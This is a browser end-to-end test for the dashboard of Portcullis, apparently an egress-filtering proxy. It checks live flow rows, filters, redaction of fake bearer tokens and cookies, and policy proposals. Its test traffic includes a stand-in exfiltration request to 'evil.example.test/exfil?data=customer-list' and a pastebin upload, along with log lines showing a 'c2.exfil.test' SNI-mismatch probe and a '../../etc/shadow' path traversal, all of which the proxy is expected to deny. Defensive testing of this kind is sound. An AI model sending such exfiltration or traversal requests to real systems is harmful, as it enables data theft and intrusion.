import assert from 'node:assert/strict';
import { accessSync, constants, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { chromium, type Browser, type Page } from 'playwright-core';
import { curl } from '../helpers/clients.js';
import { startHttpOrigin, startHttpsOrigin } from '../helpers/origin.js';
import { startTestAdmin } from '../helpers/test-admin.js';
import { makeOriginCertificates } from '../helpers/test-certs.js';
import { testProxyCaPath } from '../helpers/test-proxy.js';

// Issue 5: the dashboard in a real browser (Debian's chromium, never one Playwright downloads).
// Traffic goes through Portcullis with curl while the page is open: rows must appear live,
// the filter must narrow them, the detail must show the rule, and secrets must stay redacted.
// PORTCULLIS_SCREENSHOTS=1 saves docs/screenshots/dashboard*.png for the README.

/** The page's globals as the page functions below use them (this test project has no DOM lib). */
interface PageNode {
  readonly textContent: string | null;
  querySelector(selector: string): PageNode | null;
}
declare const document: {
  querySelector(selector: string): PageNode | null;
  querySelectorAll(selector: string): ArrayLike<PageNode>;
  readonly documentElement: { readonly outerHTML: string };
};
declare const navigator: { readonly clipboard: { readText(): Promise<string> } };

const CHROMIUM = '/usr/bin/chromium';
const TIMEOUT_MS = 30_000;
const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
const SCREENSHOTS = path.join(ROOT, 'docs', 'screenshots');
const SECRET = 'Bearer sk-live-0123456789abcdef';
const COOKIE = 'session=9f8e7d6c5b4a';

const skip = ((): string | false => {
  try {
    accessSync(CHROMIUM, constants.X_OK);
  } catch {
    return `${CHROMIUM} is missing (Debian: apt-get install chromium, or bash scripts/install-test-deps.sh)`;
  }
  try {
    accessSync(path.join(ROOT, 'dist', 'web', 'app.js'));
  } catch {
    return 'the dashboard is not built (npm run build)';
  }
  return false;
})();

const rowCount = (page: Page): Promise<number> => page.locator('#flows tbody tr').count();

/** Waits until the table shows `n` rows; returns how long that took. */
const waitForRows = async (page: Page, n: number, timeoutMs = 5000): Promise<number> => {
  const started = Date.now();
  await page.waitForFunction((want) => document.querySelectorAll('#flows tbody tr').length === want, n, { timeout: timeoutMs, polling: 25 });
  return Date.now() - started;
};

/** Types a filter and waits until the table shows exactly one row, the one whose URL has `urlPart`. */
const filterTo = async (page: Page, filter: string, urlPart: string): Promise<void> => {
  await page.fill('#filter', filter);
  await page.waitForFunction((part) => {
    const rows = document.querySelectorAll('#flows tbody tr');
    return rows.length === 1 && (rows[0]?.querySelector('.c-url')?.textContent ?? '').includes(part);
  }, urlPart, { timeout: 5000, polling: 25 });
};

test('the dashboard streams flows live, filters them, shows details with the rule and redacted secrets, and copies an allow rule', {
  skip, timeout: 6 * TIMEOUT_MS,
}, async (t) => {
  const origin = await startHttpOrigin(t, (req, res) => {
    res.writeHead(200, { 'content-type': 'application/json', 'set-cookie': 'origin-session=abcdef123456; HttpOnly' });
    res.end(JSON.stringify({ ok: true, path: req.url }));
  });
  const originCerts = makeOriginCertificates(['www.googleapis.com', 'registry.npmjs.test']);
  const tlsOrigin = await startHttpsOrigin(t, originCerts);
  const names = ['api.internal.test', 'deb.debian.test', 'evil.example.test', 'www.googleapis.com', 'registry.npmjs.test', 'pastebin.test'];
  const env = await startTestAdmin(t, {
    resolve: Object.fromEntries(names.map((name) => [name, '127.0.0.1'])),
    upstream: { tls: { extra_ca: [originCerts.caCertPath] } },
    rules: [
      { name: 'internal-api', hosts: ['api.internal.test'], ports: [origin.port] },
      { name: 'debian-apt', hosts: ['deb.debian.test'], ports: [origin.port], methods: ['GET', 'HEAD'] },
      { name: 'gcs-one-bucket', hosts: ['www.googleapis.com'], ports: [tlsOrigin.port], paths: ['/storage/v1/b/allowed-bkt'] },
      { name: 'npm-registry', hosts: ['registry.npmjs.test'], ports: [tlsOrigin.port] },
    ],
  });

  const home = mkdtempSync(path.join(tmpdir(), 'pcl-dashboard-chromium-'));
  t.after(() => rmSync(home, { recursive: true, force: true }));
  const browser: Browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    timeout: TIMEOUT_MS,
    env: { ...process.env, HOME: home, XDG_CONFIG_HOME: path.join(home, '.config'), XDG_CACHE_HOME: path.join(home, '.cache') },
    args: [
      '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update',
      '--disable-sync', '--disable-dev-shm-usage', '--no-proxy-server',
      // The page talks to the admin listener on 127.0.0.1 only; any other name fails to resolve.
      '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1',
    ],
  });
  t.after(() => browser.close());
  const context = await browser.newContext({ viewport: { width: 1480, height: 860 }, deviceScaleFactor: 1 });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.adminUrl });
  const page = await context.newPage();
  page.setDefaultTimeout(TIMEOUT_MS);
  const problems: string[] = [];
  page.on('pageerror', (error) => problems.push(`page error: ${error.message}`));
  page.on('console', (message) => {
    if (message.type() === 'error') problems.push(`console: ${message.text()}`);
  });

  await page.goto(`${env.adminUrl}/`, { waitUntil: 'load' });
  await page.waitForSelector('#live[data-state="live"]');
  assert.equal(await rowCount(page), 0);
  assert.equal(await page.textContent('#version'), 'v0.1.0');

  const proxy = ['-x', env.proxyUrl];
  const http = (host: string, urlPath: string): string => `http://${host}:${origin.port}${urlPath}`;
  const https = (host: string, urlPath: string): string => `https://${host}:${tlsOrigin.port}${urlPath}`;

  await t.test('rows appear live, within a second of each request', async () => {
    assert.equal((await curl([...proxy, '-H', `Authorization: ${SECRET}`, '-H', `Cookie: ${COOKIE}`, http('api.internal.test', '/v1/items?page=2')])).status, 200);
    const first = await waitForRows(page, 1);
    assert.ok(first < 1000, `the first row took ${first} ms`);
    assert.equal((await curl([...proxy, http('evil.example.test', '/exfil?data=customer-list')])).status, 403);
    const second = await waitForRows(page, 2);
    assert.ok(second < 1000, `the denied row took ${second} ms`);
    assert.equal(await page.getAttribute('#flows tbody tr:first-child', 'data-decision'), 'deny', 'newest first');
  });

  await t.test('more traffic of every kind streams in', async () => {
    assert.equal((await curl([...proxy, '-X', 'POST', '-d', '{"name":"x"}', http('api.internal.test', '/v1/items')])).status, 200);
    assert.equal((await curl([...proxy, http('deb.debian.test', '/debian/dists/bookworm/Release')])).status, 200);
    assert.equal((await curl([...proxy, '-X', 'POST', http('deb.debian.test', '/upload')])).status, 403);
    assert.equal((await curl([...proxy, '--cacert', testProxyCaPath, https('www.googleapis.com', '/storage/v1/b/allowed-bkt/o')])).status, 200);
    assert.equal((await curl([...proxy, '--cacert', testProxyCaPath, https('www.googleapis.com', '/storage/v1/b/other-bkt/o')])).status, 403);
    assert.equal((await curl([...proxy, '--cacert', originCerts.caCertPath, https('registry.npmjs.test', '/left-pad')])).status, 200);
    assert.notEqual((await curl([...proxy, 'https://pastebin.test/raw/abc'])).code, 0);
    assert.notEqual((await curl([...proxy, 'https://evil.example.test/upload'])).code, 0);
    // 10 requests; each intercepted one is two flows (the tunnel and the request inside).
    await env.waitForFlows(12);
    await waitForRows(page, 12);
    await page.waitForFunction(() => document.querySelector('#stat-flows')?.textContent === '12', undefined, { timeout: 5000 });
  });

  await t.test('the filter narrows the rows', async () => {
    await page.fill('#filter', 'decision:deny');
    await waitForRows(page, 5);
    const decisions = await page.$$eval('#flows tbody tr', (rows) => rows.map((row) => row.getAttribute('data-decision')));
    assert.deepEqual([...new Set(decisions)], ['deny']);
    await page.fill('#filter', 'host:googleapis');
    await waitForRows(page, 4);
    await page.fill('#filter', 'host:googleapis status:403');
    await waitForRows(page, 1);
    await page.fill('#filter', 'rule:internal-api method:POST');
    await waitForRows(page, 1);
    await page.fill('#filter', 'customer-list');
    await waitForRows(page, 1);
    await page.fill('#filter', '');
    await waitForRows(page, 12);
  });

  await t.test('pause holds new rows back until resumed', async () => {
    await page.click('#pause');
    assert.equal((await curl([...proxy, http('api.internal.test', '/while-paused')])).status, 200);
    await page.waitForFunction(() => document.querySelector('#pause')?.textContent === 'Resume (1 new)', undefined, { timeout: 5000 });
    assert.equal(await rowCount(page), 12);
    await page.click('#pause');
    await waitForRows(page, 13);
  });

  await t.test('the detail view shows the rule, TLS facts, and redacted secrets', async () => {
    await filterTo(page, 'allowed-bkt method:GET', '/storage/v1/b/allowed-bkt/o');
    await page.click('#flows tbody tr');
    await page.waitForSelector('#detail:not([hidden]) .headers');
    const tls = await page.textContent('#detail-body');
    assert.match(tls ?? '', /gcs-one-bucket/);
    assert.match(tls ?? '', /minted by Portcullis/);
    assert.match(tls ?? '', /TLSv1\.[23]/);

    await filterTo(page, 'rule:internal-api method:GET items', '/v1/items?page=2');
    await page.click('#flows tbody tr');
    await page.waitForFunction(() => /Authorization/.test(document.querySelector('#detail-body')?.textContent ?? ''), undefined, { timeout: 5000 });
    const detail = await page.textContent('#detail-body') ?? '';
    assert.match(detail, /internal-api/);
    assert.match(detail, /rule-matched/);
    const redacted = await page.$$eval('#detail .headers tr', (rows) => rows
      .map((row) => [row.querySelector('th')?.textContent ?? '', row.querySelector('td')?.textContent ?? ''])
      .filter(([name]) => /^(authorization|cookie|set-cookie)$/i.test(name ?? '')));
    assert.deepEqual(redacted.map(([name, value]) => `${name?.toLowerCase()}=${value}`).sort(),
      ['authorization=[redacted]', 'cookie=[redacted]', 'set-cookie=[redacted]']);
    const everything = await page.evaluate(() => document.documentElement.outerHTML);
    for (const secret of [SECRET, 'sk-live-0123456789abcdef', '9f8e7d6c5b4a', 'abcdef123456']) {
      assert.ok(!everything.includes(secret), `${secret} reached the page`);
    }
    if (process.env.PORTCULLIS_SCREENSHOTS === '1') {
      await page.fill('#filter', '');
      await waitForRows(page, 13);
      await page.click('#flows tbody tr:has-text("/v1/items?page=2")');
      await page.waitForFunction(() => /Authorization/.test(document.querySelector('#detail-body')?.textContent ?? ''));
      mkdirSync(SCREENSHOTS, { recursive: true });
      await page.waitForTimeout(300);
      await page.screenshot({ path: path.join(SCREENSHOTS, 'dashboard.png') });
    }
    await page.click('#detail-close');
    await page.fill('#filter', '');
  });

  await t.test('the denied view groups by host, explains a suggested rule before copying it, and suggests none from deliberate or attack-shaped denials', async () => {
    await page.click('a[data-tab="denied"]');
    const card = page.locator('article.card[data-host="evil.example.test"]');
    await card.waitFor();
    assert.match(await card.textContent() ?? '', /2 denied/);
    const suggestion = await card.locator('pre.suggestion').textContent();
    assert.equal(suggestion, `  - name: allow-evil.example.test\n    hosts: [evil.example.test]\n    ports: [443, ${origin.port}]\n`);
    // First click: explain what the rule would allow (the admin API's explain, with the rule as a candidate).
    assert.equal(await card.locator('button.copy').textContent(), 'Copy allow rule');
    await card.locator('button.copy').click();
    await page.waitForFunction(() => document.querySelector('article.card[data-host="evil.example.test"] button.copy')?.textContent === 'Copy this rule');
    assert.equal(await card.locator('.candidate-explain').textContent(), `allow allow-evil.example.test: host evil.example.test, port 443|${origin.port}`);
    const samples = await card.locator('.preview-samples li').allTextContents();
    assert.deepEqual(samples.sort(), [
      `GET http://evil.example.test:${origin.port}/exfil?data=customer-list → allowed by the suggested rule`,
      'GET https://evil.example.test:443/ → allowed by the suggested rule, spliced (not decrypted): every request in the tunnel passes',
    ].sort());
    // Second click: copy.
    await card.locator('button.copy').click();
    await page.waitForFunction(() => document.querySelector('article.card[data-host="evil.example.test"] button.copy')?.textContent === 'Copied ✓');
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), suggestion);
    // A POST refused by a rule's methods, and a request for another bucket refused by a rule's
    // paths, are deliberate: shown with a note, never offered as a rule.
    for (const host of ['deb.debian.test', 'www.googleapis.com']) {
      const deliberate = page.locator(`article.card[data-host="${host}"]`);
      await deliberate.waitFor();
      assert.equal(await deliberate.locator('pre.suggestion').count(), 0, host);
      assert.equal(await deliberate.locator('button.copy').count(), 0, host);
      assert.match(await deliberate.locator('p.note').textContent() ?? '', /a rule limits this host's paths or methods on purpose/, host);
    }
    if (process.env.PORTCULLIS_SCREENSHOTS === '1') await page.screenshot({ path: path.join(SCREENSHOTS, 'dashboard-denied.png') });
  });

  await t.test('the rules view counts hits per rule, and the explain box tests a URL', async () => {
    await page.click('a[data-tab="rules"]');
    await page.waitForSelector('#rules tbody tr');
    const rows = await page.$$eval('#rules tbody tr', (trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '')));
    const byName = Object.fromEntries(rows.map((cells) => [cells[0], cells]));
    assert.deepEqual(byName['internal-api']?.slice(2, 5), ['3', '0', '0']);
    assert.deepEqual(byName['debian-apt']?.slice(2, 5), ['1', '1', '0']);
    assert.deepEqual(byName['gcs-one-bucket']?.slice(2, 5), ['3', '1', '0'], 'two tunnels and one request allowed, one request denied');

    await page.click('a[data-tab="explain"]');
    await page.fill('#explain-url', https('www.googleapis.com', '/storage/v1/b/other-bkt/o'));
    await page.click('#explain-form button[type="submit"]');
    await page.waitForSelector('#explain-result .verdict');
    const explained = await page.textContent('#explain-result') ?? '';
    assert.match(explained, /Denied/);
    assert.match(explained, /path-not-allowed/);
    assert.match(explained, /gcs-one-bucket/);
  });

  await t.test('the propose view learns a policy from the live flows and from an uploaded log, shows what it changes, and downloads it', async () => {
    await page.click('a[data-tab="propose"]');
    await page.waitForFunction(() => /default: deny/.test(document.querySelector('#propose-yaml')?.textContent ?? ''), undefined, { timeout: 10_000 });
    const live = await page.textContent('#propose-yaml') ?? '';
    assert.match(live, new RegExp(`- name: api\\.internal\\.test\n    hosts: \\[api\\.internal\\.test\\]\n    ports: \\[${origin.port}\\]\n    methods: \\[GET, POST\\]\n    paths: \\[/v1/items, /while-paused\\]`));
    assert.match(live, /hosts: \[www\.googleapis\.com\]\n.*\n    methods: \[GET\]\n    paths: \[\/storage\/v1\/b\/allowed-bkt\/o\]/);
    assert.match(live, /hosts: \[registry\.npmjs\.test\]/);
    assert.doesNotMatch(live, /- name: .*(evil|pastebin|other-bkt)/, 'denied flows are held back, not proposed');
    assert.match(await page.textContent('#propose-set-aside') ?? '', /evil\.example\.test: denied \(no-rule-matched\)/);
    assert.match(await page.textContent('#propose-diff') ?? '', /^Nothing changes: \d+ allowed and \d+ denied as before\./);
    assert.match(await page.textContent('#propose-status') ?? '', /\d+ rules from \d+ flows in the buffer/);

    // An access log from another gateway, in dry run: pip traffic the running policy does not allow, and two probes.
    const line = (fields: Record<string, unknown>): string => JSON.stringify({
      time: '2026-11-22T16:50:41.460Z', kind: 'tunnel', client: '10.0.3.30', client_port: 40000, listener: '10.0.0.10:3128', method: 'CONNECT',
      verdict: 'allow', reason: 'no-rule-matched', would_deny: true, status: 200, bytes_up: 0, bytes_down: 0, duration_ms: 5, tunnel_mode: 'splice', ...fields,
    });
    const log = [
      ...[1, 2, 3].map((i) => line({ flow_id: `u-${i}`, url: 'pypi.org:443', host: 'pypi.org', port: 443 })),
      line({ flow_id: 'u-4', url: 'files.pythonhosted.org:443', host: 'files.pythonhosted.org', port: 443 }),
      line({ flow_id: 'u-5', url: 'pypi.org:443', host: 'pypi.org', port: 443, sni: 'c2.exfil.test', reason: 'sni-mismatch', client: '10.0.1.66' }),
      line({ flow_id: 'u-6', kind: 'http', method: 'GET', url: 'http://deb.debian.org/debian/../../etc/shadow', host: 'deb.debian.org', port: 80, client: '10.0.1.66' }),
    ].join('\n');
    await page.setInputFiles('#propose-upload', { name: 'access.log', mimeType: 'text/plain', buffer: Buffer.from(`${log}\n`) });
    await page.waitForFunction(() => /uploaded log lines/.test(document.querySelector('#propose-status')?.textContent ?? ''), undefined, { timeout: 10_000 });
    const uploaded = await page.textContent('#propose-yaml') ?? '';
    assert.match(uploaded, /# covers 3 log lines \(0 requests, 3 tunnels\) from 1 client: 10\.0\.3\.30 \(3\)\n  - name: pypi\.org\n    hosts: \[pypi\.org\]\n    ports: \[443\]/);
    assert.doesNotMatch(uploaded, /exfil\.test\]|etc\/shadow\]|- name: deb/);
    const diff = await page.textContent('#propose-diff') ?? '';
    assert.match(diff, /Denied before, allowed now: 4/);
    assert.match(diff, /was denied: no-rule-matched; now allowed by rule pypi\.org/);
    const aside = await page.textContent('#propose-set-aside') ?? '';
    assert.match(aside, /pypi\.org: sni-mismatch/);
    assert.match(aside, /deb\.debian\.org: ambiguous-path/);

    const [file] = await Promise.all([page.waitForEvent('download'), page.click('#propose-download')]);
    assert.equal(file.suggestedFilename(), 'proposed.yaml');
    const saved = await file.path();
    assert.equal(readFileSync(saved, 'utf8'), uploaded, 'the download is the proposal shown');
    if (process.env.PORTCULLIS_SCREENSHOTS === '1') await page.screenshot({ path: path.join(SCREENSHOTS, 'dashboard-propose.png') });
  });

  await t.test('the CA tab offers the certificate and the trust instructions', async () => {
    await page.click('a[data-tab="ca"]');
    await page.waitForFunction(() => /SHA-256/.test(document.querySelector('#ca-info')?.textContent ?? ''));
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-ca-download="pem"]')]);
    assert.equal(download.suggestedFilename(), 'portcullis-ca.pem');
    assert.match(await page.textContent('#ca-trust') ?? '', /update-ca-certificates/);
  });

  assert.deepEqual(problems, []);
});
